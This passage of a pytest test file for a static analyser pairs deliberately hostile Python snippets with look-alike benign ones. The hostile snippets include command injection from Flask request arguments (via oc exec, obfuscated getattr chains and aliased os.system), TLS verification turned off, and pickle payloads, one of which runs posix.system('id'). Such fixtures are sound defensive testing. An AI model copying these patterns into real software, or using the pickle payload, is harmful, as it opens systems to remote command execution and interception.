    ('a request that names what a pod starts', SHELL, "import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(['oc', 'exec', 'shop', '--', request.args['tool']])\n", "import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(['oc', 'exec', request.args['pod'], '--', 'tool'])\n"),
    ('members that are taken one after the other', SHELL, "import os\nimport functools\nSTEPS = ['path', 'os', 'popen']\ndef f(x):\n    run = functools.reduce(getattr, STEPS, os)\n    run(x)\n", "import functools\nimport shop\nSTEPS = ['path', 'os', 'getcwd']\ndef f(x):\n    run = functools.reduce(getattr, STEPS, shop)\n    run(x)\n"),
    ('a short name for no certificate', TLS, "import urllib3\n\nshops = urllib3.HTTPSConnectionPool('shops.example', cert_reqs='NONE')\n", "import urllib3\n\nshops = urllib3.HTTPSConnectionPool('shops.example', cert_reqs='REQUIRED')\n"),
    ('a short constant that calls what it names', LOADING, 'import pickle\n\nnow = pickle.loads(b"ctime\\ntime\\n)R.")\n', "import pickle\n\nnone = pickle.loads(b'N.')\n"),
    ('a constant that names what it runs', LOADING, 'import pickle\n\nshop = pickle.loads(b"cposix\\nsystem\\n(S\'id\'\\ntR.")\n', "import pickle\n\n\ndef copy(shop):\n    told = pickle.dumps(shop)\n    return pickle.loads(told), pickle.loads(b'N.')\n"),
]  # fmt: skip


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Evidence]]:
    """What is found in each file of one repository with all cases."""
    return evidence_by_case(tmp_path_factory.mktemp("shop"), CASES)


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each[0] for each in CASES])
def test_a_call_that_hides_is_found(number: int, found: dict[str, list[Evidence]]) -> None:
    seen = [each for each in found[f"shop{number}/hostile.py"] if each.probe == CASES[number][1]]
    assert seen
    assert max(each.confidence for each in seen) >= 0.5


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each[0] for each in CASES])
def test_what_only_looks_like_it_is_not(number: int, found: dict[str, list[Evidence]]) -> None:
    assert [each.statement for each in found[f"shop{number}/benign.py"]] == []


_TAKEN: list[tuple[str, str, str, str]] = [
    ("a module under another name", "import shop.base as base\nbase.parts.system(request.args['x'])\n", "import os as parts\n", "import os as parts\nimport shutil as copies\n"),
    ("a member by its name", "from .base import run\nrun(request.args['x'])\n", "import os\nrun = getattr(os, 'system')\n", "import os\nrun = getattr(os, 'fspath')\n"),
    ("an entry of a namespace", "from .base import run\nrun(request.args['x'])\n", "import importlib\n_os = importlib.import_module('os')\nrun = vars(_os)['system']\n", "import importlib\n_os = importlib.import_module('os')\nrun = vars(_os)['fspath']\n"),
    ("a member of what is imported by its name", "from . import base\nbase.run(request.args['x'])\n", "_os = __import__('os')\nrun = _os.system\n", "_os = __import__('os')\nrun = _os.fspath\n"),
]  # fmt: skip


@pytest.mark.parametrize("case", _TAKEN, ids=[each[0] for each in _TAKEN])
def test_what_another_module_passes_on_is_found(case: tuple[str, str, str, str], tmp_path: Path) -> None:
    _, use, hostile, benign = case
    quiet = use.replace("parts.system", "copies.which")
    files = {
        "hostile/shop/__init__.py": "",
        "hostile/shop/base.py": hostile,
        "hostile/shop/view.py": f"from flask import request\n{use}",
        "benign/shop/__init__.py": "",
        "benign/shop/base.py": benign,
        "benign/shop/view.py": f"from flask import request\n{quiet}",
    }
    found = evidence_by_path(tmp_path, files, SHELL)
    assert [each.confidence >= 0.8 for each in found["hostile/shop/view.py"]] == [True]
    assert found["benign/shop/view.py"] == []
